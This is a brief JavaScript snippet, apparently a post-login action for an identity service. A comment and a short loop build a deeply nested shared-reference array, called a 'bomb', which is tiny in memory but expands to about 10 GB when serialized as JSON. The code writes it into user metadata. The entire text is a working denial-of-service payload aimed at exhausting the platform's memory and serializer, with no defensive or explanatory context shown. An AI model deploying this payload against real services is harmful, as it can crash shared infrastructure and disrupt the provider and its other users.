// Ten levels of ten references each: 200 bytes that are 10 GB as JSON.
exports.onExecutePostLogin = async (event, api) => {
  let value = 'x';
  for (let i = 0; i < 10; i++) value = Array(10).fill(value);
  api.user.setUserMetadata('bomb', value);
};
